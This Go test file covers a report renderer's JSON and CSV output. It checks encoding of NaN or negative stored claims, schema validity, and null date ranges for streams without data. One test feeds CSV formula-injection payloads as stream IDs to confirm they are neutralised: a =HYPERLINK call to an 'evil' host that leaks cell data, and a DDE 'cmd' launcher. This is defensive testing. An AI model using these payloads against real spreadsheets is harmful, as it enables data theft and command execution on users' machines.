package render

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"math"
	"path/filepath"
	"strings"
	"testing"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/earshot/earshot/internal/claims"
	"github.com/earshot/earshot/internal/result"
	"github.com/earshot/earshot/internal/testenv"
)

// storedClaimResult is the fixture with one claim as the claims table may hold it: ForStream
// does not validate rows (one inserted with SQL, or by an older version), and claims.Check
// expressly answers "not measurable" for a value that is not a finite number ≥ 0 or a metric
// it does not know.
func storedClaimResult(c claims.Claim) *result.Result {
	r := fixtureStream("s", "network")
	c.ID, c.StreamID = "odd", "s"
	return result.Build("s", r, []claims.Verdict{claims.Check(c, r, result.Tolerance)})
}

// TestJSONEncodesAStoredNaNClaim: one claim with a NaN or infinite claimed_value must not make
// the whole report (and the web page's JSON) fail to encode.
func TestJSONEncodesAStoredNaNClaim(t *testing.T) {
	for _, v := range []float64{math.NaN(), math.Inf(1), math.Inf(-1)} {
		res := storedClaimResult(claims.Claim{ClaimedValue: v, Metric: claims.MetricConcurrent})
		var out bytes.Buffer
		if err := JSON(&out, res); err != nil {
			t.Errorf("claimed_value %v: the report cannot be encoded: %v", v, err)
		}
		out.Reset()
		if err := VerdictJSON(&out, res.Claims[0]); err != nil {
			t.Errorf("claimed_value %v: the verdict cannot be encoded: %v", v, err)
		}
	}
}

// TestJSONOfOddStoredClaimsMatchesSchema: the verdicts Check gives for stored claims it cannot
// measure (unknown metric, negative or non-finite value) are still valid against the schema.
func TestJSONOfOddStoredClaimsMatchesSchema(t *testing.T) {
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	sch, err := c.Compile(filepath.Join(testenv.RepoRoot(), "docs", "report.schema.json"))
	if err != nil {
		t.Fatal(err)
	}
	for name, cl := range map[string]claims.Claim{
		"unknown metric": {ClaimedValue: 1000, Metric: "listeners"},
		"negative value": {ClaimedValue: -5, Metric: claims.MetricCume},
		"NaN value":      {ClaimedValue: math.NaN(), Metric: claims.MetricCume},
	} {
		var out bytes.Buffer
		if err := JSON(&out, storedClaimResult(cl)); err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		doc, err := jsonschema.UnmarshalJSON(&out)
		if err != nil {
			t.Fatal(err)
		}
		if err := sch.Validate(doc); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// TestCSVStreamIDCannotBeAFormula: stream ids come from clients (anyone with an app's public
// ingest token can name a stream), and the page offers every stream's minute curve as a CSV
// download for spreadsheets, which run a cell starting with =, +, -, @ (or a tab or carriage
// return before one) as a formula: =HYPERLINK(…) sends the sheet's data away on a click.
func TestCSVStreamIDCannotBeAFormula(t *testing.T) {
	for _, id := range []string{`=HYPERLINK("http://evil/?"&B2,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"} {
		var out bytes.Buffer
		if err := CSV(&out, fixture(id, "network", "")); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&out).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows[1:] {
			if strings.ContainsAny(row[0][:1], "=+-@\t\r") {
				t.Errorf("stream_id cell %q starts a formula", row[0])
				break
			}
		}
	}
	var out bytes.Buffer
	CSV(&out, fixture("x-space-2024-08-12", "network", ""))
	if !strings.Contains(out.String(), "\nx-space-2024-08-12,") {
		t.Errorf("an ordinary id is changed:\n%s", out.String())
	}
}

// TestNoDataHasNoRange: docs/report.md defines from and to as the first minute with data and
// the end of the last; a stream without data has neither, and its JSON said
// "0001-01-01T00:00:00Z", a date a dashboard plots and a scraper subtracts.
func TestNoDataHasNoRange(t *testing.T) {
	var out bytes.Buffer
	if err := JSON(&out, result.Build("gone", nil, nil)); err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(out.Bytes(), &m); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"from", "to"} {
		if v, ok := m[k]; !ok || v != nil {
			t.Errorf("%s: %v, want null", k, v)
		}
	}
}
